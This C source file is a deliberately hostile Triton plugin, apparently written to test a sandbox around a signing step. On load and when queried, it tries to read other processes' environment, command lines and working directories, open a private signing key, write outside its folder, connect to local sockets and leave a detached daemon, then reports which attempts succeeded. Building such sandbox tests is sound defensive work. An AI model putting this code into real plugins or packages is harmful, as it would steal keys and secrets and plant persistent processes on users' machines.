/* A Triton plugin (API v2) that attacks whoever loads it, as a wheel given to the signer
 * could: its constructor and its tritonGetPluginInfo try to read the parent's environment,
 * command line and working directory (and every other process's), open the signing key,
 * write a file outside its directory, connect to a TCP and a unix socket, and (the
 * constructor) leave a setsid daemon whose name is MARKER and which writes DAEMON_FILE later.
 * Each attempt's outcome is one pass name, "<when>:<attempt>:<result>", where the result is
 * LEAKED / WRITTEN / CONNECTED / STARTED when the attempt worked, else the errno's name (or
 * "clean" when what it read held no secret). The test gives every path and secret with -D. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#if !defined(KEY_PATH) || !defined(PASSPHRASE) || !defined(SECRET_CWD) || !defined(OUTSIDE) || \
    !defined(TCP_PORT) || !defined(UNIX_PATH) || !defined(MARKER) || !defined(DAEMON_FILE)
#error "the test defines every target"
#endif

typedef struct { const char *name; const char *version; void *addPass; void *registerPass; } PassInfo;
typedef struct {
  uint32_t apiVersion;
  const char *pluginName;
  const char *pluginVersion;
  PassInfo *passes;
  size_t numPasses;
  void *dialects;
  size_t numDialects;
  void *ops;
  size_t numOps;
  const char *tritonVersion;
} PluginInfo;

enum { SLOTS = 24, WIDTH = 200 };
static char results[SLOTS][WIDTH];
static PassInfo passes[SLOTS];
static size_t used;

static void record(const char *when, const char *what, const char *result) {
  if (used < SLOTS) {
    snprintf(results[used], WIDTH, "%s:%s:%s", when, what, result);
    passes[used].name = results[used];
    passes[used].version = "1";
    used++;
  }
}

static const char *err(int e) {
  const char *name = strerrorname_np(e);
  return name ? name : "EUNKNOWN";
}

/* Up to 64 KiB of a file; -errno when it cannot be read. */
static ssize_t slurp(const char *path, char *buf, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -errno;
  ssize_t n = read(fd, buf, size - 1);
  int e = errno;
  close(fd);
  if (n < 0) return -e;
  buf[n] = 0;
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == 0) buf[i] = '\n'; /* environ and cmdline are NUL-separated */
  return n;
}

/* The parent's /proc/<ppid>/<file>, then every process's: LEAKED if any holds the secret. */
static void read_procs(const char *when, const char *file, const char *secret) {
  static char buf[1 << 16];
  char path[128], result[WIDTH];
  snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), file);
  ssize_t n = slurp(path, buf, sizeof buf);
  int leaked = n > 0 && strstr(buf, secret) != NULL;
  snprintf(result, sizeof result, "%s", n < 0 ? err((int)-n) : "clean");
  DIR *proc = opendir("/proc");
  int seen = 0;
  for (struct dirent *d; proc && (d = readdir(proc));) {
    if (d->d_name[0] < '0' || d->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/%s", d->d_name, file);
    seen++;
    if (slurp(path, buf, sizeof buf) > 0 && strstr(buf, secret)) leaked = 1;
  }
  if (proc) closedir(proc);
  char what[64];
  snprintf(what, sizeof what, "%s(%d procs)", file, seen);
  record(when, what, leaked ? "LEAKED" : result);
}

static void read_cwds(const char *when) {
  char path[128], target[4096];
  snprintf(path, sizeof path, "/proc/%d/cwd", (int)getppid());
  ssize_t n = readlink(path, target, sizeof target - 1);
  const char *result = n < 0 ? err(errno) : "clean";
  DIR *proc = opendir("/proc");
  for (struct dirent *d; proc && (d = readdir(proc));) {
    snprintf(path, sizeof path, "/proc/%s/cwd", d->d_name);
    n = readlink(path, target, sizeof target - 1);
    if (n > 0) {
      target[n] = 0;
      if (strcmp(target, SECRET_CWD) == 0) result = "LEAKED";
    }
  }
  if (proc) closedir(proc);
  record(when, "cwd", result);
}

static void open_key(const char *when) {
  static char buf[1 << 16];
  ssize_t n = slurp(KEY_PATH, buf, sizeof buf);
  record(when, "key", n < 0 ? err((int)-n) : (strstr(buf, "PRIVATE KEY") ? "LEAKED" : "clean"));
}

static void write_outside(const char *when) {
  int fd = open(OUTSIDE, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd < 0) {
    record(when, "write", err(errno));
    return;
  }
  ssize_t n = write(fd, "written by the plugin\n", 22);
  close(fd);
  record(when, "write", n == 22 ? "WRITTEN" : "short");
}

static void connect_tcp(const char *when) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    record(when, "tcp", err(errno));
    return;
  }
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(TCP_PORT)};
  at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int rc = connect(s, (struct sockaddr *)&at, sizeof at);
  record(when, "tcp", rc == 0 ? "CONNECTED" : err(errno));
  close(s);
}

static void connect_unix(const char *when) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    record(when, "unix", err(errno));
    return;
  }
  struct sockaddr_un at = {.sun_family = AF_UNIX};
  snprintf(at.sun_path, sizeof at.sun_path, "%s", UNIX_PATH);
  int rc = connect(s, (struct sockaddr *)&at, sizeof at);
  record(when, "unix", rc == 0 ? "CONNECTED" : err(errno));
  close(s);
}

/* fork; the child names itself MARKER (inherited by its own child), setsid, forks the daemon
 * and exits; the daemon writes DAEMON_FILE after a while, then waits. Returns once the
 * daemon exists. */
static void leave_daemon(const char *when) {
  pid_t child = fork();
  if (child < 0) {
    record(when, "daemon", err(errno));
    return;
  }
  if (child == 0) {
    prctl(PR_SET_NAME, MARKER, 0, 0, 0);
    setsid();
    if (fork() == 0) {
      sleep(2);
      int fd = open(DAEMON_FILE, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (fd >= 0) close(fd);
      for (int i = 0; i < 120; i++) sleep(1);
      _exit(0);
    }
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  record(when, "daemon", "STARTED");
}

static void attack(const char *when) {
  read_procs(when, "environ", PASSPHRASE);
  read_procs(when, "cmdline", KEY_PATH);
  read_cwds(when);
  open_key(when);
  write_outside(when);
  connect_tcp(when);
  connect_unix(when);
}

__attribute__((constructor)) static void on_load(void) {
  attack("ctor");
  leave_daemon("ctor");
}

PluginInfo *tritonGetPluginInfo(void) {
  static PluginInfo info = {2, "hostile", "1.0", passes, 0, NULL, 0, NULL, 0, "3.9.0"};
  attack("call");
  info.numPasses = used;
  return &info;
}
